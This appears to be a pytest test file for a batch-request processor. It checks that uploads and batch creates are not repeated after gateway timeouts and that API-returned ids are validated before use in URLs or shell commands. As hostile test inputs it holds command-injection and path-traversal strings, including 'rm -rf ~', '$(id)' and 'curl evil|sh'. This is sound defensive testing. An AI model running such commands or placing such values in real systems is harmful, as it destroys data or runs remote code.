"""A call that makes something at a batch API (an upload, a create) is never made twice for one part, and the ids
the API gives are plain ones before they go into a URL or a printed command.

The judges: behind a gateway that makes the upload or the batch, then answers 504 (`batch_create_timeouts`), each
part has exactly one input file and one batch, and no custom_id is received twice, counted from the mock's own
record (OpenAI, Azure, Message Batches); a 429 is tried again at once (nothing was made), a 5xx that made nothing
is looked for, then made once; an id that is not plain stops the run naming the call and is put in no URL.
"""

from __future__ import annotations

import io
import json
import logging
import shlex
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from rate_limited_processor import Settings
from rate_limited_processor.config.credentials import Scrubber, scrubber_for
from rate_limited_processor.jobs.batch_api import AiohttpBatchHTTP, BatchAPI, BatchAPIError, HTTPCall, checked_id
from rate_limited_processor.jobs.batch_job import BatchOptions, run_batch_job
from rate_limited_processor.jobs.batch_rows import say_what_runs
from rate_limited_processor.jobs.batch_state import BatchState
from rate_limited_processor.jobs.message_batches import MessageBatchesAPI
from rate_limited_processor.mock_server import MockApi, MockConfig, MockServer, MockTransport
from rate_limited_processor.transport.http import TransportResponse
from tests import test_azure_batches as azure
from tests import test_batch_mode as openai
from tests import test_message_batches as anthropic
from tests.helpers import MOCK_ORIGIN, chat_request, read_rows, write_jsonl
from tests.virtual_time import run_virtual


def run_with(api: MockApi, input_path: Path, output_path: Path, http: Any) -> Any:
    """A batch run (OpenAI's API on the mock) whose batch calls go through `http`."""

    async def main() -> Any:
        return await run_batch_job(
            openai.settings_for(), input_path, output_path, options=BatchOptions(poll_interval=10.0), http=http,
            transport=MockTransport(api), show_progress=False,
        )

    return run_virtual(main())


def answered_once(api: MockApi) -> Counter[str]:
    """Every custom_id the mock's batches ran, with how many times."""
    return Counter(custom_id for ids in api.batches.answered.values() for custom_id in ids)


@pytest.mark.parametrize("timeouts", [1, 2, 4], ids=["first-upload", "first-upload-and-create", "every-upload-and-create"])
def test_an_upload_or_create_made_then_answered_504_is_found_and_not_made_again(tmp_path: Path, timeouts: int) -> None:
    input_path = write_jsonl(tmp_path / "requests.jsonl", [chat_request(i) for i in range(200)])
    output_path = tmp_path / "results.jsonl"
    api = MockApi(MockConfig(**openai.QUICK, batch_create_timeouts=timeouts))

    stats = openai.run_batch(api, input_path, output_path, max_lines=100)

    assert stats.stop_reason is None and openai.ids_of(read_rows(output_path)) == Counter(range(200))
    assert (len(api.batches.uploads), len(api.batches.created)) == (2, 2), "one input file and one batch per part"
    ran = answered_once(api)
    assert len(ran) == 200 and max(ran.values()) == 1, "no line was run twice"


def test_an_azure_create_made_then_answered_504_is_found_and_not_made_again(tmp_path: Path) -> None:
    input_path = write_jsonl(tmp_path / "requests.jsonl", [azure.azure_line(i) for i in range(60)])
    output_path = tmp_path / "results.jsonl"
    api = MockApi(MockConfig(**openai.QUICK, api_key=azure.KEY, batch_create_timeouts=2))
    watched = azure.Watched(api)

    stats = azure.run(api, input_path, output_path, watched)

    assert stats.stop_reason is None and openai.ids_of(read_rows(output_path)) == Counter(range(60))
    assert (len(api.batches.uploads), len(api.batches.created)) == (1, 1)
    assert max(answered_once(api).values()) == 1
    assert all("api-version=" in url for url in watched.urls), "the looks carry the api-version too"


@pytest.mark.parametrize("timeouts", [1, 2])
def test_a_message_batch_made_then_answered_504_is_found_and_not_made_again(tmp_path: Path, timeouts: int) -> None:
    input_path = write_jsonl(tmp_path / "requests.jsonl", [anthropic.message_request(i) for i in range(150)])
    output_path = tmp_path / "results.jsonl"
    api = MockApi(MockConfig(**anthropic.QUICK, batch_create_timeouts=timeouts))

    stats = anthropic.run_batch(api, input_path, output_path, max_lines=100)

    assert stats.stop_reason is None and anthropic.ids_of(read_rows(output_path)) == Counter(range(150))
    assert len(api.message_batches.created) == 2, "one batch per part"
    assert sum(api.message_batches.received.values()) == 150 and max(api.message_batches.received.values()) == 1


class AnswersFirstCreate:
    """The mock, behind a network whose first batch create is answered `status` before it reaches the API (so
    nothing is made); every call is recorded as (method, path)."""

    def __init__(self, api: MockApi, status: int) -> None:
        self.transport = MockTransport(api)
        self.status, self.answered = status, False
        self.calls: list[tuple[str, str]] = []

    async def call(self, call: Any, sink: Any = None) -> Any:
        path = call.url.removeprefix(MOCK_ORIGIN).partition("?")[0]
        self.calls.append((call.method, path))
        if (call.method, path) == ("POST", "/v1/batches") and not self.answered:
            self.answered = True
            error = {"message": "Rate limit reached" if self.status == 429 else "The server had an error", "type": "server_error", "param": None, "code": None}
            return TransportResponse(self.status, {"content-type": "application/json"}, json.dumps({"error": error}).encode())
        return await self.transport.call(call, sink)


@pytest.mark.parametrize("status, looked", [(429, False), (503, True), (500, True)])
def test_a_429_is_tried_again_at_once_and_a_5xx_is_looked_for_first_and_either_makes_one_batch(
    tmp_path: Path, status: int, looked: bool,
) -> None:
    input_path = write_jsonl(tmp_path / "requests.jsonl", [chat_request(i) for i in range(20)])
    output_path = tmp_path / "results.jsonl"
    api = MockApi(MockConfig(**openai.QUICK))
    http = AnswersFirstCreate(api, status)

    stats = run_with(api, input_path, output_path, http)

    assert stats.stop_reason is None and openai.ids_of(read_rows(output_path)) == Counter(range(20))
    assert len(api.batches.created) == 1
    creates = [index for index, call in enumerate(http.calls) if call == ("POST", "/v1/batches")]
    assert len(creates) == 2
    between = http.calls[creates[0] + 1 : creates[1]]
    assert (("GET", "/v1/batches") in between) is looked, between


@pytest.mark.parametrize("identifier", ["batch_abc123", "file-abc123", "msgbatch_01HkcTjaV5uDC8jWR4ZsDV8d", "batch_6caaf24d-54a5-46be-b1b7-518884fcbdde"])
def test_real_ids_are_plain(identifier: str) -> None:
    assert checked_id(identifier, "an id") == identifier


@pytest.mark.parametrize("identifier", ["", "../files/x", "batch_1?limit=1", "batch 1", "b;rm -rf ~", "b'$(id)'", "x" * 201, 7, None])
def test_an_id_that_is_not_plain_is_refused_saying_what_it_was(identifier: Any) -> None:
    with pytest.raises(BatchAPIError, match="the id in POST /batches' answer is not a plain id"):
        checked_id(identifier, "the id in POST /batches' answer")


class RewritesAnswers:
    """The mock, behind a server that puts `bad` in place of an id in one kind of answer; every URL is recorded."""

    def __init__(self, api: MockApi, method: str, path: str, field: str, bad: str) -> None:
        self.transport = MockTransport(api)
        self.method, self.path, self.field, self.bad = method, path, field, bad
        self.urls: list[str] = []

    async def call(self, call: Any, sink: Any = None) -> Any:
        self.urls.append(call.url)
        answer = await self.transport.call(call, sink)
        path = call.url.removeprefix(MOCK_ORIGIN).partition("?")[0]
        if call.method == self.method and path.startswith(self.path) and answer.status == 200:
            body = json.loads(answer.body)
            if body.get(self.field) is not None:
                body[self.field] = self.bad
            return TransportResponse(answer.status, answer.headers, json.dumps(body).encode())
        return answer


@pytest.mark.parametrize("method, path, field, call", [
    ("POST", "/v1/files", "id", "POST http://mock.invalid/v1/files"),
    ("POST", "/v1/batches", "id", "POST http://mock.invalid/v1/batches"),
    ("GET", "/v1/batches/", "output_file_id", "the file id to download"),
])
def test_an_id_from_the_api_that_is_not_plain_stops_the_run_naming_the_call_and_goes_in_no_url(
    tmp_path: Path, method: str, path: str, field: str, call: str,
) -> None:
    input_path = write_jsonl(tmp_path / "requests.jsonl", [chat_request(i) for i in range(10)])
    output_path = tmp_path / "results.jsonl"
    bad = "../files/x?purpose=batch;curl evil|sh"
    api = MockApi(MockConfig(**openai.QUICK))
    http = RewritesAnswers(api, method, path, field, bad)

    stats = run_with(api, input_path, output_path, http)

    assert stats.stop_reason is not None and call in stats.stop_reason and "not a plain id" in stats.stop_reason
    assert not any("/../" in url or "evil" in url for url in http.urls)


def test_the_cancel_command_printed_is_shell_quoted(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    state = BatchState(tmp_path / "results.jsonl.batches", f"{MOCK_ORIGIN}/v1")
    part = state.new_part("/v1/chat/completions", None, [1, 2], 10, 10)
    part.batch_ids.append("batch_1'; touch pwned; '")  # as a hand-edited record could hold it

    with caplog.at_level(logging.WARNING):
        say_what_runs(state, state.api_root, None)

    [command] = [line.strip() for line in caplog.text.splitlines() if "curl -X POST" in line]
    words = shlex.split(command)
    assert words[:3] == ["curl", "-X", "POST"] and words[3] == f"{MOCK_ORIGIN}/v1/batches/batch_1'; touch pwned; '/cancel"


def test_the_mocks_gateway_timeout_makes_the_first_creates_then_answers_504_and_lets_the_rest_through() -> None:
    api = MockApi(MockConfig(batch_create_timeouts=2))
    root = f"{MOCK_ORIGIN}/v1/messages/batches"
    headers = {"anthropic-version": "2023-06-01", "content-type": "application/json"}
    body = json.dumps({"requests": [{"custom_id": "r1", "params": {"model": "claude-haiku-4-5", "max_tokens": 8, "messages": []}}]}).encode()

    async def main() -> list[int]:
        transport = MockTransport(api)
        statuses = [(await transport.call(HTTPCall("POST", root, headers, body))).status for _ in range(3)]
        listed = await transport.call(HTTPCall("GET", root, headers))
        statuses.append(listed.status)
        return statuses

    assert run_virtual(main()) == [504, 504, 200, 200], "a listing is never timed out: only what makes something"
    assert len(api.message_batches.created) == 3, "the two answered 504 were made all the same"
    with pytest.raises(ValueError, match="batch_create_timeouts"):
        MockConfig(batch_create_timeouts=-1)


@pytest.mark.parametrize("tail", ["/batches/msgbatch_01/../../../files/results", "/batches/msgbatch_01/results?after=x", "/batches/msgbatch_01/results/"])
def test_a_results_url_that_is_not_a_plain_path_under_the_root_is_not_read(tail: str) -> None:
    root = f"{MOCK_ORIGIN}/v1/messages"
    api = MessageBatchesAPI(root, {}, http=MockTransport(MockApi()), scrub=scrubber_for(Settings(request_url=anthropic.MESSAGES_URL, api_key=None)))

    with pytest.raises(BatchAPIError, match="without a results_url under"):
        run_virtual(api.results({"id": "msgbatch_01", "results_url": root + tail}, io.BytesIO()))


async def test_over_a_real_socket_an_upload_and_a_create_answered_the_gateways_504_are_found_not_made_again() -> None:
    """About 2 s of real time: one backoff (1 s) before each look."""
    line = json.dumps({"custom_id": "r1", "method": "POST", "url": "/v1/chat/completions", "body": chat_request(1)}) + "\n"
    async with MockServer(MockConfig(batch_create_timeouts=2)) as server:
        http = AiohttpBatchHTTP()
        api = BatchAPI(server.base_url, {}, http=http, scrub=Scrubber([]))
        try:
            file = await api.upload("rlp-part-1.jsonl", line.encode())
            batch = await api.create(file["id"], "/v1/chat/completions", {"rate_limited_processor_part": "rlp-part-1"})
        finally:
            await http.aclose()
    assert (server.api.batches.uploads, server.api.batches.created) == ([file["id"]], [batch["id"]])


class ListsForever:
    """A server whose batch listing always says there is more, after a cursor it makes up; every URL is recorded."""

    def __init__(self, last_id: str, data: list[dict[str, Any]]) -> None:
        self.last_id, self.data = last_id, data
        self.urls: list[str] = []

    async def call(self, call: Any, sink: Any = None) -> TransportResponse:
        self.urls.append(call.url)
        body = {"object": "list", "data": self.data, "has_more": True, "last_id": self.last_id, "first_id": None}
        return TransportResponse(200, {"content-type": "application/json"}, json.dumps(body).encode())


@pytest.mark.parametrize("which", ["openai", "anthropic"])
def test_a_listing_cursor_that_is_not_a_plain_id_goes_in_no_url(which: str) -> None:
    http = ListsForever("x&purpose=../../v1/evil", [{"id": "batch_1", "created_at": "2026-12-06T00:00:00Z", "metadata": {}}])
    scrub = Scrubber([])

    async def look() -> Any:
        if which == "openai":
            return await BatchAPI(MOCK_ORIGIN + "/v1", {}, http=http, scrub=scrub).find_batch("rlp_part", "token")
        return await MessageBatchesAPI(MOCK_ORIGIN + "/v1/messages", {}, http=http, scrub=scrub).created_since(0.0)

    with pytest.raises(BatchAPIError, match="the listing's last_id is not a plain id"):
        run_virtual(look())
    assert len(http.urls) == 1 and not any("evil" in url for url in http.urls)
    http.last_id = "batch_0"  # a plain cursor is followed, page after page, up to the search's bound
    try:
        run_virtual(look())
    except BatchAPIError:
        pytest.fail("a plain cursor refused")
    assert len(http.urls) > 2 and http.urls[-1].endswith("batch_0")
